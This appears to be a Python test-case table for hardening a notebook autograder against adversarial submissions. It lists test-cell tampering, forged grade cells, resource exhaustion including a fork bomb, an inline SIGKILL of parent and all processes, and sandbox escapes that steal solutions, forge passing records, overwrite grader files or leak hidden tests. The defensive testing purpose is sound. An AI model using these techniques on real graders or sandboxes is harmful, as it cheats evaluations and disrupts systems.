         what="wrong answers; test cells pre-filled with passing outputs and partial-credit results"),
    Case("copy_pasted_test_cell", "tamper", 5, edits=(duplicate("test_softmax"),),
         what="correct answers; a test cell copy-pasted (metadata included), as students do to experiment"),
    Case("duplicated_tests_edited", "tamper", 0, base="wrong", edits=(
        duplicate("test_softmax", source="print('test_softmax: passed')"),
        duplicate("test_layer_norm", source="pass", before=True)),
        what="wrong answers; edited copies of test cells (same grade_id) after and before the originals"),
    Case("test_flipped_to_solution", "tamper", 2, base="softmax_only", edits=(
        set_meta("test_layer_norm", solution=True), replace("test_layer_norm", "pass"),),
        what="a test cell's metadata changed to an editable answer cell, its code replaced"),
    Case("added_grade_cell", "tamper", 2, base="softmax_only", edits=(
        insert_after("test_softmax", "print('bonus: passed')", metadata={"nbgrader": {
            "grade": True, "solution": False, "locked": True, "points": 100, "grade_id": "test_bonus", "schema_version": 3}}),),
        what="a student-added cell with grade metadata worth 100 points"),
    Case("deleted_answer_and_test", "tamper", 3, edits=(delete("softmax", "test_softmax"),),
         what="the softmax answer cell and its test cell deleted; the other answers are correct"),
    # ------------------------------------------------------------------ limits
    Case("loop_top_level", "limit", 2, status="limit", edits=(insert_after("test_softmax", LOOP),),
         message="time limit per cell", what="an infinite loop in a top-level cell after the first test"),
    Case("loop_in_function", "limit", 2, status="limit",
         edits=(_fill("layer_norm", "def layer_norm(x, eps=1e-5):\n    while True:\n        pass"),),
         message="test_layer_norm", what="an infinite loop inside the function a test calls"),
    Case("sleep_notebook_limit", "limit", 4, status="limit",
         edits=tuple(insert_after("test_layer_norm", SLEEP) for _ in range(6)),
         message="time limit per notebook", what="six 8-second sleeps: every cell is under 10 s, the notebook is not under 45 s"),
    Case("memory_python_torch_exit", "limit", 2, edits=(
        _fill("layer_norm", "def layer_norm(x, eps=1e-5):\n    buf = bytearray(8 * 2**30)\n    return x"),
        _fill("count_params", "def count_params(d_in, d_out):\n    raise SystemExit(0)"),
        insert_after("test_softmax", "big = torch.empty(2**31)  # 8 GB\nbig.fill_(1.0)")),
        what="8 GB bytearray (MemoryError), 8 GB torch.empty (RuntimeError) and SystemExit: errors, not crashes"),
    Case("memory_tmpfs", "limit", 2, status="limit", needs_sandbox=True, edits=(insert_after("test_softmax", MEMORY_TMPFS),),
         message="memory limit", what="3 GiB written to /tmp (a tmpfs, so memory) after the first test"),
    Case("fork_bomb", "limit", 2, status="limit", needs_sandbox=True, edits=(insert_after("test_softmax", FORK_BOMB),),
         what="a fork bomb after the first test"),
    Case("os_exit", "limit", 2, status="limit",
         edits=(_fill("layer_norm", "import os\n\ndef layer_norm(x, eps=1e-5):\n    os._exit(3)"),),
         message="kernel died", what="os._exit inside the function a test calls"),
    Case("segfault", "limit", 2, status="limit", edits=(insert_after("test_softmax", SEGFAULT),),
         message="kernel died", what="a segfault (ctypes) after the first test"),
    Case("kill_parent", "limit", 5, needs_sandbox=True, edits=(insert_after("test_softmax",
         "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)\nprint('survived')"),),
         what="SIGKILL to the parent process and to every process it may signal (only the sandbox's own)"),
    Case("huge_output", "limit", 5, edits=(insert_after("test_count_params", HUGE_OUTPUT), _fill("softmax", HUGE_OUTPUT_SOFTMAX)),
         in_notebook="output truncated by the grader", max_notebook_bytes=8 * 2**20,
         what="45 MB printed by a cell, 5 MB by each call of softmax"),
    # ------------------------------------------------------------------ sandbox escapes that would earn points
    Case("escape_read_and_network", "escape", 2, needs_sandbox=True, guards=("server",), edits=(
        _fill("layer_norm", ESCAPE_READ_AND_NET), _fill("count_params", "# defined above")),
        what="layer_norm copies the solution from the instructor's notebook, the gradebook or another student's "
             "submission if it can find one; count_params asks a server on 127.0.0.1 for the answer"),
    Case("escape_write", "escape", 0, base="blank", needs_sandbox=True, guards=("probes", "sources"), edits=(
        insert_after("helpers", ESCAPE_WRITE), append(ESCAPE_WRITE_RECORDS)),
        what="overwrites every copy of the instructor's notebook with checks that pass anything, forges passing "
             "records, and drops files into course_lib, site-packages and home folders"),
    Case("escape_symlink_cwd", "escape", 5, needs_sandbox=True, guards=("victim",), edits=(append(ESCAPE_SYMLINK_CWD),),
         what="replaces the notebook in its working folder by a symlink to a host file, which the grader "
              "(outside the sandbox) would then overwrite"),
    Case("leak_hidden_tests", "escape", 4, edits=(_fill("count_params", LEAK),), absent=(HIDDEN_CANARY,),
         what="count_params raises an error whose message carries the hidden test's source (read from the "
              "graded notebook or the calling frame); the feedback page must not show it"),
    Case("background_swapper", "escape", 3, needs_sandbox=True, guards=("sources",), edits=(
        _fill("layer_norm", "def layer_norm(x, eps=1e-5):\n    raise NotImplementedError"), append(BACKGROUND_SWAPPER)),
        what="no layer_norm; a daemon process outliving the notebook keeps swapping the test_layer_norm record for "
             "a symlink to a valid record on the host (a race with the checker)"),
    Case("fifo_cwd", "escape", 5, needs_sandbox=True, rescue_fifo=True, edits=(append(FIFO_CWD),),
         what="replaces the notebook in its working folder by a FIFO, which would block the grader's write "
              "(outside the sandbox) forever; the test unblocks such a hang by reading the FIFO, and fails"),
    # ------------------------------------------------------------------ files
    Case("huge_cells_renamed", "file", 5, filename="Copy of adv.ipynb", edits=(nb_edit(_huge_cells),),
         what="an 8 MB markdown cell and a 2 MB code cell, saved under another file name"),
    Case("corrupt_json", "file", 0, status="corrupt", raw=lambda ctx: b"{not json", message="not a valid notebook"),
    Case("corrupt_binary", "file", 0, status="corrupt", raw=lambda ctx: bytes(range(256)) * 64, message="not a valid notebook"),
    Case("corrupt_empty", "file", 0, status="corrupt", raw=lambda ctx: b"", message="not a valid notebook"),
    Case("corrupt_schema", "file", 0, status="corrupt",
         raw=lambda ctx: json.dumps({"cells": 5, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode(),
         message="not a valid notebook", what="valid JSON, not a notebook"),
    Case("corrupt_truncated", "file", 0, status="corrupt", raw=_corrupt_truncated, message="not a valid notebook"),
    Case("symlink_to_source", "file", 0, status="corrupt", message="symbolic link",
         symlink=lambda ctx: ctx.root / "notebooks" / NAME / f"{NAME}.ipynb",
         what="the submission is a symlink to the instructor's notebook"),
    Case("missing_notebook", "file", 0, status="missing", filename="notes.txt", raw=lambda ctx: b"my notes\n",
         message="no notebook", what="a student folder without a notebook"),
]


def by_name() -> dict[str, Case]:
    names = [c.name for c in CASES]
    assert len(names) == len(set(names)), "case names must be unique"
    return {c.name: c for c in CASES}
